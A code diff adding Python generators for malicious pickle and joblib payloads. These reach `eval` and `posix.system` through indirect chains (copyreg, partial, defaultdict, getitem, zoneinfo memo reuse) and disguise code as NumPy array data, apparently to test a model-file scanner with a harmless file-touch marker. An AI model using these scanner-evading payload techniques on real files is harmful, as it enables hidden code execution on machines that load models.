@@ -214,6 +214,52 @@ def payloads(target: str) -> Iterator[tuple[str, bytes]]:
         ),
     )
     yield "distribution", scipy_distribution(python)
+    yield from indirect(python)
+
+
+def item(of: bytes, key: str) -> bytes:
+    return call(named("operator", "getitem"), Code(of), key)
+
+
+def lazily(function: bytes, *arguments: Any) -> bytes:
+    """Calls the function without naming it where something is called."""
+    made = call(named("functools", "partial"), Code(function), *arguments)
+    return item(call(named("collections", "defaultdict"), Code(made)), "x")
+
+
+def indirect(python: str) -> Iterator[tuple[str, bytes]]:
+    """Only names of data, and what copyreg, partial, defaultdict and getitem make of them."""
+    mean, getter = Code(named("statistics", "mean")), named("operator", "attrgetter")
+    zone = call(named("builtins", "getattr"), Code(named("zoneinfo", "ZoneInfo")), "_unpickle") + b"0"
+    made = call(named("copyreg", "__newobj__"), Code(getter), "__globals__")
+    built = call(named("copyreg", "_reconstructor"), Code(getter), Code(getter), "__globals__")
+    for name, before, variables in (
+        ("newobj-attrgetter", b"", lazily(made, mean)),
+        ("reconstructor-attrgetter", b"", lazily(built, mean)),
+        ("getattr-beside-zone", zone, lazily(named("builtins", "getattr"), mean, "__globals__")),
+    ):
+        yield name, whole(before + lazily(item(item(variables, "__builtins__"), "eval"), python))
+    again = b"\x80\x04" + named("builtins", "getattr") + b"q\x010" + zone
+    variables = lazily(b"h\x01", mean, "__globals__")
+    yield "getattr-in-the-memo", again + lazily(item(item(variables, "__builtins__"), "eval"), python) + b"."
+
+
+def wrapper_state(length: int) -> bytes:
+    state = b"}(" + word("dtype") + call(named("numpy", "dtype"), "u1", False, True) + word("shape")
+    state += body((length,)) + word("order") + word("C") + word("subclass") + named("numpy", "ndarray")
+    return state + word("allow_mmap") + b"\x89ub"
+
+
+def as_array(code: bytes) -> bytes:
+    """joblib takes the code for the bytes of an array, pickle for code."""
+    array = named("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + wrapper_state(len(code) + 1)
+    return b"\x80\x04" + array + code + b".."
+
+
+def made_wrapper(command: str, maker: bytes) -> bytes:
+    """To joblib the bytes after it are an array; to one that does not know them the pickle ends there."""
+    array = maker + wrapper_state(6) + b".00000"
+    return b"\x80\x04" + word(command) + b"q\x070" + array + b"0cposix\nsystem\ng7\n\x85R."
 
 
 def scipy_distribution(python: str) -> bytes:
@@ -335,6 +381,17 @@ def disguised(target: str) -> Iterator[Disguised]:
         "system": system(touch),
         "package": whole(call(named("mlflow.utils.process", "_exec_cmd"), ["touch", target])),
     }
+    array = Code(named("joblib.numpy_pickle", "NumpyArrayWrapper"))
+    for name, maker in (
+        ("newobj", call(named("copyreg", "__newobj__"), array)),
+        (
+            "reconstructor",
+            call(named("copyreg", "_reconstructor"), array, Code(named("builtins", "object")), None),
+        ),
+    ):
+        yield Disguised(f"wrapper made by {name}", "joblib", made_wrapper(touch, maker))
+    for name, data in indirect(f"open({target!r}, 'w').close()"):
+        yield Disguised(f"{name} as an array", "pickle", as_array(data[2:-1]))
     for wrapper, (loader, wrap) in WRAPPERS.items():
         for kind, data in evil.items():
             yield Disguised(f"{kind} in {wrapper}", loader, wrap(data))
